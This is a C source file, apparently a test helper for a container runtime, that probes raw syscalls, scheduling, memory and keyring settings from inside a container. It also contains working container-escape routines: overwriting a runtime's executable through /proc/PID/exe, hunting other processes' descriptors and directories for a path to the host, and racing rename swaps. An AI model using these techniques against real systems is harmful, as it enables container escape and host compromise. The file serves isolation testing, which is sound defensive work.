/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Asks the kernel from inside a container what no shell can ask: raw system calls through each call table of the
 * machine, scheduling, memory policy, and the like. Copied static into the test's root as /bin/probe.
 *
 * usage: probe call|call32|callx32 NUMBER [ARGUMENT...]   prints "ok RESULT" or the name of the error
 *        probe scheduler|io-priority|affinity|memory-policy|personality|keyring|secure|dumpable
 *        probe memory MEGABYTES | fork COUNT
 *        probe overwrite SECONDS    attacks every foreign program image it can see in /proc, says what it wrote to
 *        probe pry SECONDS          looks for a way to the host in descriptors, cwd and root of others, says what it got
 *        probe exchange A B SECONDS swaps two names as fast as it can
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

struct sched_words {
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

static int answer(long result)
{
	if (result < 0 && result > -4096) {
		printf("%s\n", strerrorname_np((int)-result));
		return 0;
	}
	printf("ok %ld\n", result);
	return 0;
}

static long raw64(long number, const long *a)
{
	long r = syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
	return r < 0 ? -errno : r;
}

static long raw32(long number, const long *a)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(number), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]) : "memory");
	return (int)r;
}

static int call(const char *how, int argc, char **argv)
{
	long a[6] = {0};
	long number = strtol(argv[0], NULL, 0);

	for (int i = 1; i < argc && i < 7; i++)
		a[i - 1] = argv[i][0] == '/' ? (long)argv[i] : strtol(argv[i], NULL, 0);
	if (strcmp(how, "call32") == 0)
		return answer(raw32(number, a));
	if (strcmp(how, "callx32") == 0)
		return answer(raw64(number | 0x40000000, a));
	return answer(raw64(number, a));
}

static int scheduler(void)
{
	struct sched_words w = {.size = sizeof(w)};

	if (syscall(SYS_sched_getattr, 0, &w, sizeof(w), 0) < 0)
		return answer(-errno);
	printf("policy=%u nice=%d priority=%u flags=%llu\n", w.policy, w.nice, w.priority, (unsigned long long)w.flags);
	return 0;
}

static int affinity(void)
{
	cpu_set_t set;

	if (sched_getaffinity(0, sizeof(set), &set) < 0)
		return answer(-errno);
	for (int i = 0; i < CPU_SETSIZE; i++)
		if (CPU_ISSET(i, &set))
			printf("%d ", i);
	printf("\n");
	return 0;
}

static int memory_policy(void)
{
	unsigned long nodes[16] = {0};
	int mode = -1;

	if (syscall(SYS_get_mempolicy, &mode, nodes, sizeof(nodes) * 8, NULL, 0) < 0)
		return answer(-errno);
	printf("mode=%d nodes=%lx\n", mode, nodes[0]);
	return 0;
}

/* Touches memory until it has so much, or is killed. */
static int memory(long megabytes)
{
	for (long i = 0; i < megabytes; i++) {
		char *p = malloc(1 << 20);
		if (!p)
			return answer(-ENOMEM);
		memset(p, 1, 1 << 20);
	}
	printf("ok\n");
	return 0;
}

static int fork_many(long count)
{
	long made = 0;

	for (; made < count; made++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			sleep(2);
			_exit(0);
		}
	}
	printf("made %ld\n", made);
	return 0;
}

/* The attacks: all loop over the numbers in /proc, since what they wait for lives for a millisecond. */

static bool is_program_of_ours(const struct stat *s)
{
	static const char *const ours[] = {"/bin/probe", "/bin/busybox"};
	struct stat own;

	for (int i = 0; i < 2; i++)
		if (stat(ours[i], &own) == 0 && own.st_ino == s->st_ino && own.st_dev == s->st_dev)
			return true;
	return false;
}

/*
 * Whether the image is the runtime under attack: its copy by name, or something that has no name here. Where the host's
 * processes are seen, nothing else of the host may be harmed.
 */
static bool is_the_target(const char *link)
{
	char name[300];
	ssize_t len = readlink(link, name, sizeof(name) - 1);

	if (len < 0)
		return false;
	name[len] = '\0';
	return strstr(name, "/runtime-copy") || strcmp(name, "/") == 0;
}

/* Keeps the image open and writes to it as soon as nobody runs it. */
static void overwrite_image(int image)
{
	char again[64];

	snprintf(again, sizeof(again), "/proc/self/fd/%d", image);
	for (int i = 0; i < 2000; i++) {
		int out = open(again, O_WRONLY | O_CLOEXEC);
		if (out < 0) {
			if (errno != ETXTBSY)
				return;
			usleep(100);
			continue;
		}
		if (write(out, "#!overwritten\n", 14) == 14)
			printf("overwritten\n");
		close(out);
		return;
	}
}

static void try_overwrite(const char *pid)
{
	char path[300];
	struct stat s;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int image = open(path, O_PATH | O_CLOEXEC);
	if (image < 0)
		return;
	if (fstat(image, &s) == 0 && !is_program_of_ours(&s) && is_the_target(path)) {
		printf("seen %lx:%lu\n", (unsigned long)s.st_dev, (unsigned long)s.st_ino);
		overwrite_image(image);
	}
	close(image);
}

/* From a folder of the host ".." leads to its root, where the test put a marker. */
static void try_way(const char *path)
{
	struct stat s;
	char marker[400];

	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(marker, sizeof(marker), "%s/../../../../../../../../host-marker", path);
	if (stat(marker, &s) == 0)
		printf("way out: %s\n", path);
	close(fd);
}

static void try_pry(const char *pid)
{
	char path[300];

	if (strtol(pid, NULL, 10) == getpid())
		return;
	snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	try_way(path);
	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	try_way(path);
	for (int fd = 0; fd < 24; fd++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		try_way(path);
	}
}

static int each_process(long seconds, void (*attack)(const char *pid))
{
	time_t end = time(NULL) + seconds;

	setvbuf(stdout, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *entry;
		while (d && (entry = readdir(d)))
			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
				attack(entry->d_name);
		if (d)
			closedir(d);
	}
	return 0;
}

static int exchange(const char *a, const char *b, long seconds)
{
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
				return answer(-errno);
	return 0;
}

static int simple(const char *what)
{
	if (strcmp(what, "scheduler") == 0)
		return scheduler();
	if (strcmp(what, "affinity") == 0)
		return affinity();
	if (strcmp(what, "memory-policy") == 0)
		return memory_policy();
	if (strcmp(what, "io-priority") == 0)
		return answer(raw64(SYS_ioprio_get, (long[6]){1}));
	if (strcmp(what, "personality") == 0)
		return answer(personality(0xffffffff));
	if (strcmp(what, "keyring") == 0)
		return answer(raw64(SYS_keyctl, (long[6]){KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING}));
	if (strcmp(what, "dumpable") == 0)
		return answer(prctl(PR_GET_DUMPABLE));
	if (strcmp(what, "secure") == 0)
		return answer((long)getauxval(AT_SECURE));
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	if (strncmp(argv[1], "call", 4) == 0 && argc > 2)
		return call(argv[1], argc - 2, argv + 2);
	if (strcmp(argv[1], "memory") == 0 && argc > 2)
		return memory(strtol(argv[2], NULL, 10));
	if (strcmp(argv[1], "fork") == 0 && argc > 2)
		return fork_many(strtol(argv[2], NULL, 10));
	if (strcmp(argv[1], "overwrite") == 0 && argc > 2)
		return each_process(strtol(argv[2], NULL, 10), try_overwrite);
	if (strcmp(argv[1], "pry") == 0 && argc > 2)
		return each_process(strtol(argv[2], NULL, 10), try_pry);
	if (strcmp(argv[1], "exchange") == 0 && argc > 4)
		return exchange(argv[2], argv[3], strtol(argv[4], NULL, 10));
	return simple(argv[1]);
}
